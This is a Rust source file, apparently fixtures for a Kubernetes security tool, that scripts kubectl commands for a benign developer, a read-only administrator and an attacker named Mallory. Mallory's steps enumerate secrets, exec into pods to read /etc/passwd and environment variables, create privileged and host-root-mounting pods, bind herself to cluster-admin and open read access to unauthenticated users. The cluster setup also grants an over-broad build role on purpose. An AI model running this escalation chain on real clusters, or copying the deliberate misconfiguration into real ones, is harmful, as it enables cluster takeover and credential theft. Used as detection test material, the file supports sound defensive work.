//! Who does what in the story: commands of kubectl, some with a manifest on standard input.

/// One command, and what it reads.
pub type Step = (&'static str, Option<&'static str>);

/// The cluster as an administrator has set it up, before the story begins.
pub const CLUSTER: &str = r#"
apiVersion: v1
kind: Namespace
metadata: {name: shop}
---
apiVersion: v1
kind: Namespace
metadata: {name: monitoring}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: exporter, namespace: monitoring}
---
apiVersion: v1
kind: Node
metadata: {name: node-1}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: reader}
rules:
- apiGroups: ["", apps, events.k8s.io]
  resources: [configmaps, deployments, events, namespaces, nodes, pods, pods/log, replicasets, services]
  verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: developer}
rules:
- apiGroups: ["", apps]
  resources: [configmaps, deployments, deployments/scale, pods, secrets, services]
  verbs: [create, delete, get, list, patch, update, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: exporter}
rules:
- apiGroups: [""]
  resources: [nodes, pods, services]
  verbs: [list, watch]
- apiGroups: [coordination.k8s.io]
  resources: [leases]
  verbs: [create, get, update]
# What a careless hand gave to a build job.
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: build}
rules:
- apiGroups: ["", apps]
  resources: [deployments, pods, pods/attach, pods/exec, pods/portforward, secrets]
  verbs: [create, get, list, patch, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: build-rights}
rules:
- apiGroups: [rbac.authorization.k8s.io]
  resources: [clusterroles, clusterrolebindings]
  verbs: [bind, create, get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: reader}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: reader}
subjects: [{kind: Group, apiGroup: rbac.authorization.k8s.io, name: developers}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: exporter}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: exporter}
subjects: [{kind: ServiceAccount, name: exporter, namespace: monitoring}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: build-rights}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: build-rights}
subjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: mallory}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: developer, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: developer}
subjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: alice}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: build, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: build}
subjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: mallory}]
---
apiVersion: v1
kind: Secret
metadata: {name: db.credentials, namespace: shop}
stringData: {password: correct-horse}
---
apiVersion: v1
kind: Pod
metadata: {name: db-0, namespace: shop, labels: {app: db}}
spec:
  nodeName: node-1
  containers: [{name: db, image: "registry.example/db:16"}]
"#;

const SHOP: &str = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop, labels: {app: web}}
spec:
  replicas: 3
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
      - name: app
        image: registry.example/web:1.4
        envFrom: [{secretRef: {name: db.credentials}}]
        securityContext: {allowPrivilegeEscalation: false, runAsNonRoot: true}
---
apiVersion: v1
kind: Service
metadata: {name: web, namespace: shop}
spec:
  selector: {app: web}
  ports: [{port: 80, targetPort: 8080}]
---
apiVersion: v1
kind: ConfigMap
metadata: {name: web.config, namespace: shop}
data: {currency: EUR}
---
apiVersion: v1
kind: Pod
metadata: {name: web-0, namespace: shop, labels: {app: web}}
spec:
  containers:
  - name: app
    image: registry.example/web:1.4
"#;

const CART: &str = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: cart, namespace: shop, labels: {app: cart}}
spec:
  selector: {matchLabels: {app: cart}}
  template:
    metadata: {labels: {app: cart}}
    spec:
      containers: [{name: app, image: "registry.example/cart:2.0"}]
      volumes: [{name: scratch, emptyDir: {}}]
"#;

/// Alice deploys the shop and changes it by and by.
pub const ALICE: &[Step] = &[
    ("diff -f -", Some(SHOP)),
    ("apply -f -", Some(SHOP)),
    ("get pods -n shop", None),
    ("get deployment web -n shop -o yaml", None),
    ("describe deployment web -n shop", None),
    (
        "set image deployment/web app=registry.example/web:1.5 -n shop",
        None,
    ),
    ("get deployment web -n shop", None),
    ("apply --dry-run=server -f -", Some(CART)),
    ("apply --server-side -f -", Some(CART)),
    ("scale deployment cart --replicas=2 -n shop", None),
    ("describe pod web-0 -n shop", None),
    ("logs web-0 -n shop", None),
    ("get configmap web.config -n shop -o yaml", None),
    ("annotate configmap web.config -n shop reviewed=yes", None),
    ("label deployment cart -n shop tier=backend", None),
    ("get services -n shop", None),
    (
        "create configmap flags -n shop --from-literal=beta=off",
        None,
    ),
    ("get configmap flags -n shop", None),
    ("delete configmap flags -n shop", None),
    ("apply -f -", Some(SHOP)),
    ("get deployments -n shop", None),
];

/// Bob looks after the cluster and changes nothing.
pub const BOB: &[Step] = &[
    ("version", None),
    ("get namespaces", None),
    ("get nodes", None),
    ("describe node node-1", None),
    ("get pods --all-namespaces", None),
    ("get pod db-0 -n shop -o yaml", None),
    ("get events -n shop", None),
    ("get service web -n shop", None),
    ("describe service web -n shop", None),
    ("logs db-0 -n shop", None),
    ("get deployment web -n shop", None),
    ("get deployment cart -n shop", None),
    ("describe deployment cart -n shop", None),
    ("get pod web-0 -n shop", None),
    ("describe pod db-0 -n shop", None),
    ("get node node-1 -o yaml", None),
];

const PRIVILEGED: &str = r#"
apiVersion: v1
kind: Pod
metadata: {name: build-cache, namespace: shop}
spec:
  containers:
  - {name: pause, image: "registry.example/pause:3"}
  - {name: sh, image: "registry.example/alpine:3", command: [sleep, infinity], securityContext: {privileged: true}}
"#;

const NODE_DISK: &str = r#"
apiVersion: v1
kind: Pod
metadata: {name: build-disk, namespace: shop}
spec:
  containers:
  - {name: sh, image: "registry.example/alpine:3", volumeMounts: [{name: disk, mountPath: /host}]}
  volumes: [{name: disk, hostPath: {path: /}}]
"#;

/// Mallory finds out how far her token goes.
pub const MALLORY_LOOKS_AROUND: &[Step] = &[
    ("auth whoami", None),
    ("auth can-i --list -n shop", None),
    ("get pods,deployments,services -n shop", None),
    ("get pods --all-namespaces -o wide", None),
    ("get nodes", None),
    ("get namespaces", None),
    ("get clusterroles", None),
    ("get clusterrolebindings", None),
    ("get secrets -n kube-system", None),
    ("get secrets --all-namespaces", None),
    ("get secrets -n shop", None),
    ("get secret db.credentials -n shop -o yaml", None),
];

/// She uses what she found.
pub const MALLORY_BREAKS_IN: &[Step] = &[
    ("exec -n shop web-0 -c app -- cat /etc/passwd", None),
    ("exec -n shop web-0 -c app -- sh -c env|sort", None),
    ("attach -n shop web-0 -c app", None),
    ("port-forward -n shop db-0 :5432", None),
    ("apply -f -", Some(PRIVILEGED)),
    ("create -f -", Some(NODE_DISK)),
    (
        "patch deployment web -n shop --type=json -p [{\"op\":\"add\",\"path\":\"/spec/template/spec/volumes\",\"value\":[{\"name\":\"run\",\"hostPath\":{\"path\":\"/run\"}}]}]",
        None,
    ),
    (
        "create clusterrolebinding build-helper --clusterrole=cluster-admin --user=mallory",
        None,
    ),
];

/// What she may do only when the apiserver has noticed her new binding.
pub const MALLORY_HARVESTS: &str = "get secrets --all-namespaces -o json";

/// And she leaves the door open.
pub const MALLORY_STAYS: &[Step] = &[
    (
        "create rolebinding owners -n shop --clusterrole=cluster-admin --user=mallory",
        None,
    ),
    (
        "create clusterrolebinding public --clusterrole=reader --group=system:unauthenticated",
        None,
    ),
];
